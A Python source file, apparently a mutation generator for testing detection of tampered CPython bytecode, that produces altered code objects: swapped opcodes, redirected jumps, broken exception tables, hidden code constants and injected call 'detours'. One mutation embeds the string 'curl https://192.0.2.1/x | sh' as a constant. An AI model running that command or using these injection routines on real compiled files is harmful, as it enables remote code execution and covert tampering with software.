"""Changes that are made to compiled code: each leaves code objects that load, and a place of one of them changed.

A kind is a generator of places: pairs of a description and the changed code object, or the bytes of its code and others for
them. Runs under CPython 2.7 and 3.6 to 3.13.
"""

from __future__ import print_function

import __future__

import dis
import opcode
import random
import sys
import types

KINDS = []
VERSION = sys.version_info[:2]
PY2 = VERSION[0] == 2
CODE = types.CodeType
UNIT = 2
FIELDS = [
    "argcount",
    "kwonlyargcount",
    "nlocals",
    "stacksize",
    "flags",
    "code",
    "consts",
    "names",
    "varnames",
    "filename",
    "name",
    "firstlineno",
    "lnotab",
    "freevars",
    "cellvars",
]


def kind(name):
    def register(function):
        KINDS.append((name, function))
        return function

    return register


def rebuilt(old, **changes):
    if VERSION >= (3, 8):
        return old.replace(**{"co_" + name: value for name, value in changes.items()})
    fields = [name for name in FIELDS if not (PY2 and name == "kwonlyargcount")]
    if "varnames" in changes:
        changes.setdefault("nlocals", len(changes["varnames"]))
    return CODE(*[changes.get(name, getattr(old, "co_" + name)) for name in fields])


def tree(code, path=()):
    """Every code object with the constants that lead to it."""
    yield path, code
    for place, item in enumerate(code.co_consts):
        if isinstance(item, CODE):
            for found in tree(item, path + (place,)):
                yield found


def put(root, path, code):
    if not path:
        return code
    consts = list(root.co_consts)
    consts[path[0]] = put(consts[path[0]], path[1:], code)
    return rebuilt(root, consts=tuple(consts))


def caches(op):
    if VERSION < (3, 11):
        return 0
    entries = opcode._inline_cache_entries
    return entries.get(opcode.opname[op], 0) if hasattr(entries, "get") else entries[op]


class Instruction(object):
    __slots__ = ("start", "at", "op", "arg", "end")

    def __repr__(self):
        return "%d %s %s" % (self.at, opcode.opname[self.op], self.arg)


def instructions(code):
    raw = bytearray(code.co_code)
    at, start, extended = 0, 0, 0
    found = []
    while at < len(raw):
        one = Instruction()
        one.start, one.at, one.op = start, at, raw[at]
        if PY2:
            has = one.op >= opcode.HAVE_ARGUMENT
            one.arg = raw[at + 1] | raw[at + 2] << 8 if has else 0
            at += 3 if has else 1
        else:
            one.arg = raw[at + 1]
            at += 2
        one.arg |= extended
        if one.op == opcode.EXTENDED_ARG:
            extended = one.arg << (16 if PY2 else 8)
            continue
        at += 2 * caches(one.op)
        one.end = at
        start, extended = at, 0
        found.append(one)
    return found


def patched(code, *bytes_at):
    """Other bytes for the code, to be put into the marshalled file: some instructions crash interpreters that see them."""
    raw = bytearray(code.co_code)
    for place, value in bytes_at:
        raw[place] = value
    return code.co_code, bytes(raw)


def with_arg(code, one, arg):
    """The low part of an operand changed."""
    if PY2:
        return patched(code, (one.at + 1, arg & 255), (one.at + 2, arg >> 8 & 255))
    return patched(code, (one.at + 1, arg & 255))


def scale():
    return 2 if VERSION >= (3, 10) else 1


def target(one):
    name = opcode.opname[one.op]
    if one.op in opcode.hasjabs:
        return one.arg * scale()
    if one.op in opcode.hasjrel:
        return one.end + (-one.arg if "BACKWARD" in name else one.arg) * scale()
    return None


def is_jump(one):
    return one.op in opcode.hasjabs or one.op in opcode.hasjrel


def effect(op, arg):
    if PY2:
        return None
    try:
        return dis.stack_effect(op, arg if op >= opcode.HAVE_ARGUMENT else None)
    except ValueError:
        return None


def sample(items, count=3):
    items = list(items)
    random.shuffle(items)
    return items[:count]


# Instructions


@kind("raw: another opcode")
def another_opcode(code):
    real = [
        op
        for op, name in enumerate(opcode.opname)
        if not name.startswith("<") and name not in ("EXTENDED_ARG", "CACHE") and op < 256
    ]
    for one in sample(instructions(code), 4):
        if is_jump(one):
            continue
        same = [
            op
            for op in real
            if op != one.op
            and (op >= opcode.HAVE_ARGUMENT) == (one.op >= opcode.HAVE_ARGUMENT)
            and caches(op) == caches(one.op)
            and effect(op, one.arg) == effect(one.op, one.arg)
            and op not in opcode.hasjabs
            and op not in opcode.hasjrel
        ]
        limits = {"const": len(code.co_consts), "name": len(code.co_names), "local": code.co_nlocals}
        same = [
            op
            for op in same
            if not (
                op in opcode.hasconst
                and one.arg >= limits["const"]
                or op in opcode.haslocal
                and one.arg >= limits["local"]
                or op in opcode.hasname
                and one.arg >= limits["name"]
            )
        ]
        if same:
            op = random.choice(same)
            yield "%r becomes %s" % (one, opcode.opname[op]), patched(code, (one.at, op))


@kind("raw: another operand")
def another_operand(code):
    for one in sample([one for one in instructions(code) if one.op >= opcode.HAVE_ARGUMENT and not is_jump(one)], 4):
        if one.op in opcode.hasconst:
            count = len(code.co_consts)
        elif one.op in opcode.hasname:
            count = len(code.co_names)
        elif one.op in opcode.haslocal:
            count = code.co_nlocals
        elif one.op in opcode.hasfree:
            count = len(code.co_cellvars) + len(code.co_freevars)
        else:
            count = 8
        count = min(count, 256)
        if count > 1:
            arg = (one.arg + random.randrange(1, count)) % count
            if arg != one.arg:
                yield "%r becomes %d" % (one, arg), with_arg(code, one, arg)


@kind("raw: a random byte")
def random_byte(code):
    for one in sample(instructions(code)):
        place = one.at + random.randrange(2 if one.op >= opcode.HAVE_ARGUMENT else 1)
        value = random.randrange(256)
        yield "byte %d becomes %d" % (place, value), patched(code, (place, value))


@kind("raw: jump elsewhere")
def jump_elsewhere(code):
    all_of = instructions(code)
    for one in sample([one for one in all_of if is_jump(one)], 4):
        now = target(one)
        for other in sample(all_of, 6):
            step = (other.start - now) // scale()
            arg = one.arg - step if "BACKWARD" in opcode.opname[one.op] else one.arg + step
            if other.start != now and 0 <= arg and arg >> (16 if PY2 else 8) == one.arg >> (16 if PY2 else 8):
                yield "%r goes to %d" % (one, other.start), with_arg(code, one, arg)
                break


@kind("raw: jump past the prefix of an instruction")
def jump_past_prefix(code):
    all_of = instructions(code)
    prefixed = {one.start: one for one in all_of if one.start != one.at}
    for one in all_of:
        if is_jump(one) and target(one) in prefixed and not PY2:
            skip = (prefixed[target(one)].at - target(one)) // scale()
            arg = one.arg - skip if "BACKWARD" in opcode.opname[one.op] else one.arg + skip
            if 0 <= arg and arg >> 8 == one.arg >> 8:
                yield "%r" % one, with_arg(code, one, arg)


@kind("raw: jump into a cache")
def jump_into_cache(code):
    all_of = instructions(code)
    for one in sample([one for one in all_of if is_jump(one)], 2):
        for other in sample([other for other in all_of if caches(other.op)], 4):
            step = (other.at + 2 - target(one)) // 2
            arg = one.arg - step if "BACKWARD" in opcode.opname[one.op] else one.arg + step
            if 0 <= arg and arg >> 8 == one.arg >> 8:
                yield "%r goes to %d" % (one, other.at + 2), with_arg(code, one, arg)
                break


@kind("no effect: caches that are not empty")
def full_caches(code):
    for one in sample([one for one in instructions(code) if caches(one.op)], 1):
        yield "%r" % one, patched(code, (one.end - 1, 0x41), (one.end - 2, 0x41))


OPPOSITES = [("IF_TRUE", "IF_FALSE"), ("IF_NONE", "IF_NOT_NONE")]


@kind("raw: jump the other way")
def other_sense(code):
    for one in sample([one for one in instructions(code) if is_jump(one)], 4):
        name = opcode.opname[one.op]
        for first, second in OPPOSITES:
            other = name.replace(first, second) if first in name else name.replace(second, first)
            if other != name and other in opcode.opmap:
                yield "%r" % one, patched(code, (one.at, opcode.opmap[other]))


@kind("raw: instruction blanked")
def blanked(code):
    for one in sample(instructions(code), 6):
        if effect(one.op, one.arg) == 0 and not caches(one.op) and not is_jump(one) and opcode.opname[one.op] != "NOP":
            yield "%r" % one, patched(code, (one.at, opcode.opmap["NOP"]), (one.at + 1, 0))


@kind("raw: instruction of the same group")
def same_group(code):
    groups = [
        ("LOAD_FAST", "LOAD_DEREF"),
        ("LOAD_NAME", "LOAD_GLOBAL"),
        ("STORE_NAME", "STORE_GLOBAL"),
        ("LOAD_FAST_CHECK", "LOAD_FAST"),
        ("BUILD_LIST", "BUILD_TUPLE", "BUILD_SET"),
        ("LIST_APPEND", "SET_ADD"),
        ("UNARY_NEGATIVE", "UNARY_INVERT", "UNARY_NOT", "UNARY_POSITIVE"),
        ("JUMP_BACKWARD", "JUMP_BACKWARD_NO_INTERRUPT"),
        ("RAISE_VARARGS", "RERAISE"),
        ("DELETE_NAME", "DELETE_GLOBAL"),
        ("GET_ITER", "GET_YIELD_FROM_ITER"),
        ("BINARY_ADD", "INPLACE_ADD", "BINARY_SUBTRACT"),
        ("BINARY_MODULO", "BINARY_TRUE_DIVIDE", "BINARY_FLOOR_DIVIDE", "BINARY_DIVIDE"),
        ("SETUP_FINALLY", "SETUP_EXCEPT", "SETUP_LOOP"),
        ("DICT_MERGE", "DICT_UPDATE"),
        ("LIST_EXTEND", "SET_UPDATE"),
        ("COPY", "SWAP"),
        ("LOAD_CLASSDEREF", "LOAD_DEREF"),
        ("LOAD_CLOSURE", "LOAD_DEREF"),
        ("POP_JUMP_IF_TRUE", "JUMP_IF_TRUE_OR_POP"),
        ("ROT_TWO", "NOP"),
        ("GET_AWAITABLE", "GET_AITER"),
        ("STORE_FAST_LOAD_FAST", "STORE_FAST_STORE_FAST", "LOAD_FAST_LOAD_FAST"),
        ("RETURN_VALUE", "YIELD_VALUE"),
        ("CALL", "CALL_KW"),
        ("FORMAT_SIMPLE", "TO_BOOL"),
        ("SETUP_WITH", "SETUP_FINALLY"),
        ("POP_BLOCK", "POP_EXCEPT"),
        ("POP_TOP", "POP_EXCEPT"),
        ("SLICE+0", "SLICE+1"),
        ("PRINT_ITEM", "POP_TOP"),
        ("LOAD_METHOD", "LOAD_ATTR"),
        ("BUILD_MAP", "BUILD_LIST"),
    ]
    for one in sample(instructions(code), 12):
        name = opcode.opname[one.op]
        for group in groups:
            if name in group:
                others = [other for other in group if other != name and other in opcode.opmap]
                if others:
                    other = random.choice(others)
                    yield "%r becomes %s" % (one, other), patched(code, (one.at, opcode.opmap[other]))


# Tables of the code object


@kind("constants swapped in the table")
def swapped_constants(code):
    for _ in range(2):
        if len(code.co_consts) > 1:
            first, second = random.sample(range(len(code.co_consts)), 2)
            consts = list(code.co_consts)
            consts[first], consts[second] = consts[second], consts[first]
            yield "%d and %d: %.60r, %.60r" % (first, second, consts[first], consts[second]), rebuilt(
                code, consts=tuple(consts)
            )


def variants(value):
    """Other values of a constant that an attacker might pass off for it."""
    if isinstance(value, bool):
        return [not value, int(value)]
    if isinstance(value, int):
        return [value + 1, float(value) if abs(value) < 2**53 else value + 2]
    if isinstance(value, float):
        return [-value, value * 2] if value == value else [0.0]
    if isinstance(value, complex):
        return [value.conjugate()]
    if isinstance(value, (bytes, type(""))):
        return [value + value[-1:]] if value else []
    if isinstance(value, tuple):
        found = [
            value[:place] + (other,) + value[place + 1 :] for place, item in enumerate(value) for other in variants(item)[:1]
        ]
        return found[:3] + ([value[:-1], value[::-1]] if len(value) > 1 else [])
    if isinstance(value, frozenset):
        return [value | frozenset([4711]), frozenset(list(value)[1:])]
    if value is None:
        return [False]
    return []


@kind("constant changed in the table")
def changed_constant(code):
    for place in sample(range(len(code.co_consts)), 4):
        others = variants(code.co_consts[place])
        if others:
            other = random.choice(others)
            consts = code.co_consts[:place] + (other,) + code.co_consts[place + 1 :]
            yield "%d: %.60r becomes %.60r" % (place, code.co_consts[place], other), rebuilt(code, consts=consts)


@kind("item of a nested constant changed")
def nested_constant(code):
    for place, value in enumerate(code.co_consts):
        if isinstance(value, (tuple, frozenset)) and value:
            other = random.choice(variants(value) or [()])
            consts = code.co_consts[:place] + (other,) + code.co_consts[place + 1 :]
            yield "%d: %.60r becomes %.60r" % (place, value, other), rebuilt(code, consts=consts)


@kind("names swapped in the table")
def swapped_names(code):
    if len(code.co_names) > 1:
        first, second = random.sample(range(len(code.co_names)), 2)
        names = list(code.co_names)
        names[first], names[second] = names[second], names[first]
        yield "%s, %s" % (names[first], names[second]), rebuilt(code, names=tuple(names))


@kind("name repeated in the table")
def aliased_name(code):
    if len(code.co_names) > 1:
        first, second = random.sample(range(len(code.co_names)), 2)
        names = list(code.co_names)
        names[first] = names[second]
        yield "%s becomes %s" % (code.co_names[first], names[first]), rebuilt(code, names=tuple(names))


@kind("variables swapped in the table")
def swapped_variables(code):
    count = len(code.co_varnames)
    if count > 1:
        first, second = random.sample(range(count), 2)
        names = list(code.co_varnames)
        names[first], names[second] = names[second], names[first]
        yield "%s, %s" % (names[first], names[second]), rebuilt(code, varnames=tuple(names))


@kind("variable renamed in the table")
def renamed_variable(code):
    if code.co_varnames:
        place = random.randrange(len(code.co_varnames))
        names = list(code.co_varnames)
        names[place] = names[place] + "_"
        yield names[place], rebuilt(code, varnames=tuple(names))


@kind("cells swapped in the table")
def swapped_cells(code):
    for field in ("cellvars", "freevars"):
        names = getattr(code, "co_" + field)
        if len(names) > 1:
            yield "%s %s" % (field, ", ".join(names)), rebuilt(code, **{field: names[1:] + names[:1]})


@kind("hidden code constant")
def hidden_code(code):
    hidden = compile("import this\n", code.co_filename, "exec", 0, True)
    yield code.co_name, rebuilt(code, consts=code.co_consts + (hidden,))


@kind("hidden code constant, a copy of the code")
def hidden_copy(code):
    for place, item in enumerate(code.co_consts):
        if isinstance(item, CODE):
            other = rebuilt(item, names=tuple(name + "_" for name in item.co_names), consts=item.co_consts + ("hidden",))
            yield item.co_name, rebuilt(code, consts=code.co_consts + (other,))


@kind("hidden code constant in a tuple")
def hidden_nested(code):
    hidden = compile("import this\n", code.co_filename, "exec", 0, True)
    yield code.co_name, rebuilt(code, consts=code.co_consts + ((hidden,),))


@kind("no effect: hidden constant")
def hidden_constant(code):
    yield code.co_name, rebuilt(code, consts=code.co_consts + ("curl https://192.0.2.1/x | sh",))


@kind("code of a function replaced by another's")
def others_code(code):
    places = [place for place, item in enumerate(code.co_consts) if isinstance(item, CODE)]
    if len(places) > 1:
        first, second = random.sample(places, 2)
        consts = list(code.co_consts)
        one, other = consts[first], consts[second]
        if len(one.co_freevars) == len(other.co_freevars) and one.co_code != other.co_code:
            consts[first] = rebuilt(
                other,
                name=one.co_name,
                firstlineno=one.co_firstlineno,
                **({"qualname": one.co_qualname} if VERSION >= (3, 11) else {})
            )
            yield "%s has the body of %s" % (one.co_name, other.co_name), rebuilt(code, consts=tuple(consts))


def flip(bit):
    return lambda code: [(code.co_name, rebuilt(code, flags=code.co_flags ^ bit))]


for bit, name in (
    (1, "OPTIMIZED"),
    (2, "NEWLOCALS"),
    (4, "VARARGS"),
    (8, "VARKEYWORDS"),
    (0x10, "NESTED"),
    (0x20, "GENERATOR"),
    (0x80, "COROUTINE"),
    (0x200, "ASYNC_GENERATOR"),
):
    kind("flag " + name)(flip(bit))
if VERSION < (3, 11):
    kind("flag NOFREE")(flip(0x40))
for name in __future__.all_feature_names:
    feature = getattr(__future__, name)
    # Of a feature that is always on nothing asks for the flag: neither the interpreter, nor compile() and exec(), which take the flags of
    # the code that calls them (PyEval_MergeCompilerFlags) and heed only those of features that are still to be asked for.
    is_always_on = feature.getMandatoryRelease() is not None and feature.getMandatoryRelease() <= sys.version_info
    if feature.compiler_flag not in (0, 0x10):
        prefix = "no effect: flag of a future that came: " if is_always_on else "flag of a future: "
        kind(prefix + name)(flip(feature.compiler_flag))
kind("no effect: a flag that means nothing")(flip(0x40000000))


@kind("flag ITERABLE_COROUTINE of a generator")
def iterable_coroutine(code):
    if code.co_flags & 0x20 and not PY2:
        yield code.co_name, rebuilt(code, flags=code.co_flags ^ 0x100)


@kind("number of arguments")
def arguments(code):
    for field in ("argcount", "kwonlyargcount", "posonlyargcount"):
        now = getattr(code, "co_" + field, None)
        if now is not None:
            for other in (now - 1, now + 1):
                all_of = (
                    code.co_argcount
                    + getattr(code, "co_kwonlyargcount", 0)
                    + (0 if field == "posonlyargcount" else other - now)
                )
                if (
                    0 <= other
                    and all_of + (code.co_flags >> 2 & 1) + (code.co_flags >> 3 & 1) <= code.co_nlocals
                    and (field != "posonlyargcount" or other <= code.co_argcount)
                ):
                    yield "%s %d becomes %d" % (field, now, other), rebuilt(code, **{field: other})


@kind("positional parameter made keyword-only")
def keyword_only(code):
    if code.co_argcount and not PY2:
        yield code.co_name, rebuilt(code, argcount=code.co_argcount - 1, kwonlyargcount=code.co_kwonlyargcount + 1)


@kind("stack size too small")
def small_stack(code):
    if code.co_stacksize:
        yield "%d" % code.co_stacksize, rebuilt(code, stacksize=code.co_stacksize - 1)


@kind("no effect: stack size larger")
def large_stack(code):
    yield "%d" % code.co_stacksize, rebuilt(code, stacksize=code.co_stacksize + 7)


@kind("co_name changed")
def other_code_name(code):
    yield code.co_name, rebuilt(code, name=code.co_name + "_")


@kind("co_qualname changed")
def other_qualified_name(code):
    if VERSION >= (3, 11):
        yield code.co_name, rebuilt(code, qualname="other." + code.co_qualname)


@kind("co_firstlineno changed")
def other_first_line(code):
    yield code.co_name, rebuilt(code, firstlineno=code.co_firstlineno + 1)


@kind("no effect: co_filename changed")
def other_file_name(code):
    yield code.co_name, rebuilt(code, filename=code.co_filename + "_")


@kind("no effect: line table changed")
def other_lines(code):
    field = "linetable" if VERSION >= (3, 10) else "lnotab"
    table = bytearray(getattr(code, "co_" + field))
    if VERSION >= (3, 11):
        yield code.co_name, rebuilt(code, linetable=b"")
    elif len(table) > 2:
        table[1] = (table[1] + 1) % 100
        yield code.co_name, rebuilt(code, **{field: bytes(table)})


# Exception tables


def varint(number, first=False):
    groups = []
    while True:
        groups.append(number & 63)
        number >>= 6
        if not number:
            break
    groups.reverse()
    found = bytearray(group | (0 if place == len(groups) - 1 else 64) for place, group in enumerate(groups))
    if first:
        found[0] |= 128
    return bytes(found)


def entries(code):
    table = bytearray(getattr(code, "co_exceptiontable", b""))
    numbers, number = [], 0
    for byte in table:
        number = number << 6 | byte & 63
        if not byte & 64:
            numbers.append(number)
            number = 0
    return [tuple(numbers[place : place + 4]) for place in range(0, len(numbers), 4)]


def table(found):
    return b"".join(varint(entry[0], True) + b"".join(varint(number) for number in entry[1:]) for entry in found)


@kind("exception table cut")
def cut_table(code):
    found = entries(code)
    if found:
        yield "all", rebuilt(code, exceptiontable=b"")
        place = random.randrange(len(found))
        yield "entry %d" % place, rebuilt(code, exceptiontable=table(found[:place] + found[place + 1 :]))


def changed_entries(code, change):
    found = entries(code)
    for place in sample(range(len(found)), 2):
        for other in change(found, found[place]):
            yield "entry %d, %r becomes %r" % (place, found[place], other), rebuilt(
                code, exceptiontable=table(found[:place] + [other] + found[place + 1 :])
            )


@kind("handler redirected")
def redirected(code):
    return changed_entries(
        code,
        lambda found, entry: [(entry[0], entry[1], other, entry[3]) for other in {one[2] for one in found} - {entry[2]}][:1],
    )


@kind("handler redirected by one instruction")
def redirected_near(code):
    starts = [one.start // 2 for one in instructions(code)]
    return changed_entries(
        code, lambda found, entry: [(entry[0], entry[1], other, entry[3]) for other in starts if other > entry[2]][:1]
    )


@kind("range of a handler changed")
def other_range(code):
    bounds = [one.start // 2 for one in instructions(code)]

    def change(found, entry):
        start, length, handler, depth = entry
        inner = [bound for bound in bounds if start < bound < start + length]
        for bound in sample(inner, 1):
            yield (start, bound - start, handler, depth)
            yield (bound, start + length - bound, handler, depth)

    return changed_entries(code, change)


@kind("range of a handler extended")
def longer_range(code):
    bounds = [one.end // 2 for one in instructions(code)]

    def change(found, entry):
        start, length, handler, depth = entry
        behind = [
            bound
            for bound in bounds
            if bound > start + length and not any(start + length <= other[0] < bound for other in found)
        ]
        if behind:
            yield (start, behind[0] - start, handler, depth)

    return changed_entries(code, change)


@kind("depth of a handler changed")
def other_depth(code):
    return changed_entries(
        code, lambda found, entry: [entry[:3] + (entry[3] + 2,)] + ([entry[:3] + (entry[3] - 2,)] if entry[3] > 1 else [])
    )


@kind("lasti of a handler changed")
def other_lasti(code):
    return changed_entries(code, lambda found, entry: [entry[:3] + (entry[3] ^ 1,)])


@kind("exception entries out of order")
def disordered(code):
    found = entries(code)
    if len(found) > 1:
        yield "first and last", rebuilt(code, exceptiontable=table(found[-1:] + found[1:-1] + found[:1]))


@kind("exception entry with numbers that overflow")
def overflowing(code):
    # What an interpreter reads into 32 bits.
    found = entries(code)
    if found:
        start, length, handler, depth = found[0]
        yield "target", rebuilt(code, exceptiontable=table([(start, length, handler + (1 << 32), depth)] + found[1:]))
        last = found[-1]
        other = [entry[2] for entry in found if entry[2] != last[2]]
        if other:
            yield "second entry", rebuilt(
                code, exceptiontable=table(found[:-1] + [(last[0], last[1], other[0] + (1 << 32), last[3])])
            )


@kind("handler around everything")
def added_entry(code):
    found = entries(code)
    if VERSION >= (3, 11) and found:
        covered = [(entry[0], entry[0] + entry[1]) for entry in found]
        free = [one for one in instructions(code) if not any(start <= one.at // 2 < end for start, end in covered)]
        if free:
            one = random.choice(free)
            added = (one.start // 2, (one.end - one.start) // 2, found[0][2], found[0][3])
            yield "%r, handler %d" % (one, added[2]), rebuilt(code, exceptiontable=table(sorted(found + [added])))


# Code behind the code


def jump(start, end, back):
    """An instruction at one offset that jumps to another, or nothing."""
    if PY2:
        return bytearray([opcode.opmap["JUMP_ABSOLUTE"], end & 255, end >> 8])
    if VERSION < (3, 11):
        arg, name = end // scale(), "JUMP_ABSOLUTE"
    elif back:
        arg, name = (start + 2 + 2 * caches(opcode.opmap["JUMP_BACKWARD"]) - end) // 2, "JUMP_BACKWARD"
    else:
        arg, name = (end - start - 2) // 2, "JUMP_FORWARD"
    if not 0 <= arg < 256:
        return None
    return bytearray([opcode.opmap[name], arg]) + bytearray(2 * caches(opcode.opmap[name]))


def payload(code):
    """Instructions that call something by a name which the code has."""
    name = "LOAD_GLOBAL" if code.co_flags & 1 else "LOAD_NAME"
    if not code.co_names:
        return None
    op, place = opcode.opmap[name], random.randrange(min(len(code.co_names), 64))
    if PY2:
        return bytearray([op, place, 0, opcode.opmap["CALL_FUNCTION"], 0, 0, opcode.opmap["POP_TOP"]])
    if VERSION < (3, 11):
        return bytearray([op, place, opcode.opmap["CALL_FUNCTION"], 0, opcode.opmap["POP_TOP"], 0])
    found = bytearray()
    load = bytearray([op, place << 1 if name == "LOAD_GLOBAL" else place]) + bytearray(2 * caches(op))
    null = bytearray([opcode.opmap["PUSH_NULL"], 0])
    found += load + null if VERSION >= (3, 13) else null + load
    if VERSION < (3, 12):
        found += bytearray([opcode.opmap["PRECALL"], 0]) + bytearray(2 * caches(opcode.opmap["PRECALL"]))
    found += bytearray([opcode.opmap["CALL"], 0]) + bytearray(2 * caches(opcode.opmap["CALL"]))
    return found + bytearray([opcode.opmap["POP_TOP"], 0])


def detour(code, one, middle, swallow=False):
    """An instruction replaced by a jump behind the code, where something is done, then it, and back."""
    end = len(code.co_code)
    there = jump(one.start, end, False)
    raw = bytearray(code.co_code)
    if there is None or len(there) > one.end - one.start or VERSION >= (3, 11) and one.end - one.start != len(there):
        return None
    tail = bytearray(middle) + raw[one.start : one.end]
    back = jump(end + len(tail), one.end, True)
    if back is None:
        return None
    raw[one.start : one.end] = there + bytearray([opcode.opmap["NOP"]] * (one.end - one.start - len(there)))
    return rebuilt(code, code=bytes(raw + tail + back), stacksize=code.co_stacksize + 2)


@kind("raw: detour with a call")
def detour_with_call(code):
    for one in sample(instructions(code), 6):
        if not is_jump(one) and opcode.opname[one.op] not in UNMOVED:
            middle = payload(code)
            changed = middle and detour(code, one, middle)
            if changed:
                yield "%r" % one, changed


UNMOVED = (
    "RESUME",
    "MAKE_CELL",
    "COPY_FREE_VARS",
    "RETURN_GENERATOR",
    "GEN_START",
    "PRECALL",
    "KW_NAMES",
    "CALL",
    "SEND",
    "YIELD_VALUE",
    "END_FOR",
)


@kind("no effect: detour with nothing")
def detour_with_nothing(code):
    for one in sample(instructions(code), 2):
        if not is_jump(one) and opcode.opname[one.op] not in UNMOVED:
            changed = detour(code, one, b"")
            if changed:
                yield "%r" % one, changed


@kind("no effect: code behind the end")
def behind_the_end(code):
    middle = payload(code)
    if middle:
        op = opcode.opmap["LOAD_CONST"]
        raw = (
            bytearray(code.co_code)
            + middle
            + bytearray([op, 0] + ([0] if PY2 else []))
            + bytearray([opcode.opmap["RETURN_VALUE"]] + ([] if PY2 else [0]))
        )
        yield code.co_name, rebuilt(code, code=bytes(raw))


@kind("raw: end of the code in front of its end")
def early_end(code):
    """`return` of a constant in place of something."""
    for one in sample(instructions(code), 3):
        op = opcode.opmap["LOAD_CONST"]
        raw = bytearray([op, 0] + ([0] if PY2 else []) + [opcode.opmap["RETURN_VALUE"]] + ([] if PY2 else [0]))
        if one.start + len(raw) <= len(code.co_code):
            changed = bytearray(code.co_code)
            changed[one.start : one.start + len(raw)] = raw
            yield "%r" % one, rebuilt(code, code=bytes(changed), stacksize=code.co_stacksize + 1)


@kind("raw: two instructions swapped")
def swapped_instructions(code):
    all_of = instructions(code)
    pairs = [
        (one, two)
        for one, two in zip(all_of, all_of[1:])
        if not is_jump(one) and not is_jump(two) and code.co_code[one.start : one.end] != code.co_code[two.start : two.end]
    ]
    for one, two in sample(pairs, 4):
        raw = bytearray(code.co_code)
        raw[one.start : two.end] = raw[two.start : two.end] + raw[one.start : one.end]
        yield "%r, %r" % (one, two), rebuilt(code, code=bytes(raw))


@kind("raw: instruction repeated over the next")
def repeated_instruction(code):
    all_of = instructions(code)
    pairs = [
        (one, two)
        for one, two in zip(all_of, all_of[1:])
        if one.end - one.start == two.end - two.start
        and not is_jump(one)
        and not is_jump(two)
        and code.co_code[one.start : one.end] != code.co_code[two.start : two.end]
    ]
    for one, two in sample(pairs, 3):
        raw = bytearray(code.co_code)
        raw[two.start : two.end] = raw[one.start : one.end]
        yield "%r, %r" % (one, two), rebuilt(code, code=bytes(raw))
